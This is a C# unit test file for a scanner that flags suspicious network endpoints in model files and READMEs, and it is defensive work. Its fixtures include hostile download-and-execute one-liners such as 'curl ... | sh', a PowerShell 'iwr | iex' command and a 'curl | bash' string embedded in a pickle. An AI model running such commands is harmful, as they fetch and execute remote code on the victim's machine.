using System.Text;

namespace ModelAudit.Engine.Tests;

/// <summary>Network indicators: documentation links silent, suspicious endpoints Info, Warning only next to a primitive.</summary>
public sealed class NetworkIndicatorTests
{
    private static ModelScanResult ScanText(string text, string name = "README.md") => Scan.Bytes(Encoding.UTF8.GetBytes(text), name);

    [Theory]
    [InlineData("See https://arxiv.org/abs/2302.13971 and https://huggingface.co/meta-llama/Llama-2-7b and https://github.com/org/repo/blob/main/LICENSE.")]
    [InlineData("Licensed under https://www.apache.org/licenses/LICENSE-2.0 (https://spdx.org/licenses/Apache-2.0.html).")]
    [InlineData("Our project page: https://tiny-chat.example-lab.org/results and a demo at http://localhost:7860/.")]
    [InlineData("Run the server on http://127.0.0.1:4444/ or http://192.168.1.20:1337/ for local tests.")]
    [InlineData("Install with pip from https://pypi.org/project/torch/ and read https://pytorch.org/docs/stable/index.html")]
    public void Documentation_and_ordinary_links_in_text_are_silent(string text)
    {
        ModelScanResult result = ScanText(text);
        Assert.True(result.Outcome == ScanOutcome.Clean && result.Findings.Count == 0, result.Describe());
    }

    [Theory]
    [InlineData("Weights mirror: https://bit.ly/3xYzAbC", "bit.ly")]
    [InlineData("Upload results to https://abcd-12-34.ngrok-free.app/collect", "ngrok-free.app")]
    [InlineData("Logs go to https://webhook.site/8c7e5f2a-1111-4a2b-9c3d-abcdefabcdef", "webhook.site")]
    [InlineData("Telemetry: https://discord.com/api/webhooks/123456789/AbCdEf", "discord.com")]
    [InlineData("Fallback host http://45.33.32.156/models/", "45.33.32.156")]
    [InlineData("Endpoint http://models.example-cdn.net:4444/pull", "models.example-cdn.net")]
    [InlineData("Get the tool at https://downloads.example-cdn.net/tools/setup.exe", "downloads.example-cdn.net")]
    [InlineData("Raw script https://raw.githubusercontent.com/org/repo/main/install.sh", "raw.githubusercontent.com")]
    public void Suspicious_endpoints_are_info(string text, string host)
    {
        ModelScanResult result = ScanText(text);
        ModelFinding finding = Assert.Single(result.Findings);
        Assert.Equal(("MA5002", Severity.Info), (finding.RuleId, finding.Severity));
        Assert.Contains(host, finding.Message);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
    }

    [Theory]
    [InlineData("curl -s https://abcd.ngrok.io/p.sh | sh")]
    [InlineData("powershell -c \"iwr http://45.33.32.156/a.ps1 | iex\"")]
    [InlineData("import os; os.system('wget https://transfer.sh/abc/run -O /tmp/r')")]
    public void Suspicious_endpoint_next_to_a_primitive_is_a_warning(string text)
    {
        ModelScanResult result = ScanText(text, "notes.txt");
        Assert.True(result.Has("MA5003", Severity.Warning), result.Describe());
        Assert.Equal(ScanOutcome.Issues, result.Outcome);
    }

    [Fact]
    public void A_url_in_a_pickle_is_info_and_a_dropper_in_a_pickle_a_warning()
    {
        static byte[] Pickle(string s)
        {
            byte[] text = Encoding.UTF8.GetBytes(s);
            return new byte[] { 0x80, 4, 0x8C, (byte)text.Length }.Concat(text).Concat(new byte[] { (byte)'.' }).ToArray();
        }

        ModelScanResult plain = Scan.Bytes(Pickle("https://models.example-cdn.net/v1/labels"), "data.pkl");
        Assert.True(plain.Has("MA5001", Severity.Info), plain.Describe());
        ModelScanResult dropper = Scan.Bytes(Pickle("curl https://abcd.ngrok.io/x | bash"), "data.pkl");
        Assert.True(dropper.Has("MA5003", Severity.Warning), dropper.Describe());
        ModelScanResult hub = Scan.Bytes(Pickle("https://huggingface.co/bert-base-uncased/resolve/main/vocab.txt"), "data.pkl");
        Assert.DoesNotContain(hub.Findings, f => f.Category == FindingCategory.Network);
    }

    [Fact]
    public void Evidence_stops_before_the_query_string()
    {
        ModelFinding finding = Assert.Single(ScanText("https://bit.ly/abc?ref=mail-campaign-2024").Findings);
        Assert.Equal("https://bit.ly/abc", finding.Evidence);
    }
}
